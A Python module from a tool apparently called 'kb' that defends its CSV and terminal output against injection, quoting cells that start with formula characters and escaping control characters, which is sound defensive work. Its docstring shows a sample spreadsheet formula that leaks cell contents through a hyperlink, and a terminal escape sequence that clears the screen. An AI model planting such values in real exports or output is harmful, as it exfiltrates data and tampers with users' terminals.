"""Text that kb prints for something else to read: a spreadsheet, a terminal.

A record's author writes names, notes and ids; kb's outputs carry them to places that act on text. A
spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return)
as a formula, so `=HYPERLINK("http://…?leak="&A1)` in a tier's name would be live in `kb plan --format csv`.
A terminal acts on escape sequences, so `\\x1b[2J` in a name would clear the screen of whoever runs kb.
Every CSV kb prints goes through `csv_text`, and every text table through `terminal_text`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

from kbtools.diagnostics import one_line

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def spreadsheet_cell(value: Any) -> Any:
    """A cell a spreadsheet shows as text: a string that would start a formula gets a leading `'` (OWASP's
    advice), a number written as text stays a number. Numbers kb computed are not strings and pass as they are."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def csv_text(columns: list[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """Rows as CSV with a header, every cell made safe for a spreadsheet."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: spreadsheet_cell(v) for k, v in row.items()})
    return buffer.getvalue()


def terminal_text(value: Any) -> str:
    """A value as one line of text for a terminal: control characters shown as escapes."""
    return one_line(str(value))
